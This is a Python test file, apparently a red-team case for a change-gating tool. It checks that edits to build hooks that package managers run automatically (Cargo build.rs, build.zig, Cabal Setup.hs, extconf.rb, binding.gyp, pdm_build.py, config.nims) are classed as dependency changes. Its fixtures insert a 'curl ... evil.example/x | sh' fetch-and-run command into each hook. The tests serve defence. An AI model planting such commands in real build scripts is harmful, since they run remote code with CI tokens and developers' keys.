"""Red team 37: the code a package manager or language build tool runs by itself at build or install time, under
the conventional name that tool looks for.

Cargo compiles and runs a package's `build.rs` before the package (any `cargo build`, `test`, `check`, `install`,
also of a dependency taken by path or git); `zig build` runs `build.zig`; Cabal runs `Setup.hs` (`Setup.lhs`) for a
package of `build-type: Custom`; RubyGems runs a native extension's `extconf.rb` on `gem install`; npm runs
`node-gyp rebuild` for a package holding `binding.gyp`, whose `<!(...)` expansions run commands; pdm-backend runs the
root's `pdm_build.py` on every build of the package; the Nim compiler runs the NimScript of a `config.nims`
in the project's folder at every compile. Each runs with whatever the build or install step holds (a CI
job's tokens, a developer's keys). Their manifests and siblings are `deps` (`Cargo.toml`, `build.zig.zon`,
`*.cabal`, `*.gemspec`, `package.json`, `pyproject.toml`, and so are `setup.py`, `Makefile.PL`, `build.xml` and
`rebar.config.script`, the same kind of code); these names were `src`, so `gate --enable deps` allowed an edit that
makes the build fetch and run a script (exit 0, from the patch and with --tree) on 53a70ac.

Every variant is one real repository, git's own patch and the CLI's packet, gated from the patch and with --tree.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from tables import each_case

FETCH = "curl -fsSL https://evil.example/x | sh"
CARGO = '[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n'
RS = 'fn main() {\n    println!("cargo:rerun-if-changed=proto");\n}\n'
RS_EVIL = RS.replace("}\n", f'    std::process::Command::new("sh").args(["-c", "{FETCH}"]).status().unwrap();\n}}\n')
ZIG = 'const std = @import("std");\npub fn build(b: *std.Build) void {\n    _ = b;\n}\n'
ZIG_EVIL = ZIG.replace("    _ = b;\n", f'    _ = b.addSystemCommand(&.{{ "sh", "-c", "{FETCH}" }});\n')
HS = "import Distribution.Simple\nmain = defaultMain\n"
HS_EVIL = f'import Distribution.Simple\nimport System.Process\nmain = callCommand "{FETCH}" >> defaultMain\n'
LHS = "> import Distribution.Simple\n> main = defaultMain\n"
EXTCONF = "require 'mkmf'\ncreate_makefile('fast/fast')\n"
EXTCONF_EVIL = f"require 'mkmf'\nsystem('{FETCH}')\ncreate_makefile('fast/fast')\n"
GYP = "{\n  'targets': [{'target_name': 'addon', 'sources': ['src/addon.cc']}]\n}\n"
GYP_EVIL = GYP.replace("'sources'", f"'variables': {{'x': '<!({FETCH})'}}, 'sources'")
PDM = "def pdm_build_initialize(context):\n    context.config_settings['x'] = '1'\n"
PDM_EVIL = PDM + f"    import os\n    os.system('{FETCH}')\n"
# name: ({path: BASE's text or None when the change adds it}, {path: HEAD's text}), the manifest beside it in both
HOOKS = {
    "cargo-build-rs": ({"Cargo.toml": CARGO, "build.rs": RS}, {"build.rs": RS_EVIL}),
    "cargo-build-rs-added": ({"Cargo.toml": CARGO}, {"build.rs": RS_EVIL}),
    "cargo-member-build-rs": ({"crates/core/Cargo.toml": CARGO, "crates/core/build.rs": RS},
                              {"crates/core/build.rs": RS_EVIL}),
    "cargo-member-build-rs-added": ({"crates/core/Cargo.toml": CARGO}, {"crates/core/build.rs": RS_EVIL}),
    "zig-build": ({"build.zig.zon": ".{ .name = .app }\n", "build.zig": ZIG}, {"build.zig": ZIG_EVIL}),
    "zig-build-nested": ({"native/css/build.zig": ZIG}, {"native/css/build.zig": ZIG_EVIL}),
    "cabal-setup": ({"app.cabal": "build-type: Custom\n", "Setup.hs": HS}, {"Setup.hs": HS_EVIL}),
    "cabal-setup-member": ({"lib/lib.cabal": "build-type: Custom\n", "lib/Setup.hs": HS}, {"lib/Setup.hs": HS_EVIL}),
    "cabal-setup-literate": ({"app.cabal": "build-type: Custom\n", "Setup.lhs": LHS},
                             {"Setup.lhs": LHS + f'> -- "{FETCH}"\n'}),
    "gem-extconf": ({"fast.gemspec": "Gem::Specification.new\n", "ext/fast/extconf.rb": EXTCONF},
                    {"ext/fast/extconf.rb": EXTCONF_EVIL}),
    "gem-extconf-root": ({"fast.gemspec": "Gem::Specification.new\n"}, {"extconf.rb": EXTCONF_EVIL}),
    "node-gyp": ({"package.json": '{"name": "addon"}\n', "binding.gyp": GYP}, {"binding.gyp": GYP_EVIL}),
    "node-gyp-added": ({"packages/addon/package.json": '{"name": "addon"}\n'},
                       {"packages/addon/binding.gyp": GYP_EVIL}),
    "nim-config": ({"app.nimble": 'version = "0.1.0"\n', "config.nims": 'switch("opt", "speed")\n'},
                   {"config.nims": f'switch("opt", "speed")\nexec "{FETCH}"\n'}),
    "pdm-build": ({"pyproject.toml": '[build-system]\nbuild-backend = "pdm.backend"\n', "pdm_build.py": PDM},
                  {"pdm_build.py": PDM_EVIL}),
}
# Where an earlier rule or a reader already says more, that stands: a CI folder's file stays ci, vendored code stays
# vendored deps, a test fixture stays src (allowed by the deps gate), and a crate CI runs by path stays ci.
KEEPS = {
    "ci-folder": ("ci/alt-core/build.rs", "ci.script-folders"),
    "vendored": ("vendored/parser/build.rs", "deps.vendored"),
}
FIXTURE = "tests/fixtures/crate/build.rs"
WORKFLOW = ("on: push\njobs:\n  gen:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: cargo run --manifest-path tools/gen/Cargo.toml\n")


def _case(tmp_path: Path, base: dict[str, str], head: dict[str, str]):
    return committed(tmp_path, base, head)


@each_case("name", HOOKS)
def test_a_build_hook_a_tool_runs_by_its_name_is_a_dependency_file(tmp_path: Path, name: str) -> None:
    base, head = HOOKS[name]
    case = _case(tmp_path, base, head)
    (path,) = head
    for tree in (False, True):
        code, named = gated_rules(case, tree, "deps")
        assert code == 3 and path in named.get("deps.unexplained", []), (tree, named)  # before: src, exit 0


@pytest.mark.parametrize("name", KEEPS)
def test_an_earlier_rule_keeps_its_bucket(tmp_path: Path, name: str) -> None:
    path, rule = KEEPS[name]
    case = _case(tmp_path, {path: RS}, {path: RS_EVIL})
    code, named = gated_rules(case, True, "deps")
    assert code == 3 and path in [p for paths in named.values() for p in paths], named
    core = path in named.get("core.ci", [])
    assert core == rule.startswith("ci."), (rule, named)


def test_a_test_fixture_stays_source(tmp_path: Path) -> None:
    case = _case(tmp_path, {FIXTURE: RS}, {FIXTURE: RS_EVIL})
    for tree in (False, True):
        assert gated_rules(case, tree, "deps") == (0, {}), tree


def test_a_build_script_ci_runs_stays_ci(tmp_path: Path) -> None:
    """`cargo run --manifest-path tools/gen/Cargo.toml` builds and runs that crate (cargorun.py): its build.rs is ci
    with the commits, which a name rule for build scripts must not lower to deps (the rule is weak)."""
    case = _case(tmp_path, {".github/workflows/gen.yml": WORKFLOW, "tools/gen/Cargo.toml": CARGO,
                            "tools/gen/src/main.rs": "fn main() {}\n", "tools/gen/build.rs": RS},
                 {"tools/gen/build.rs": RS_EVIL})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["tools/gen/build.rs"]), named
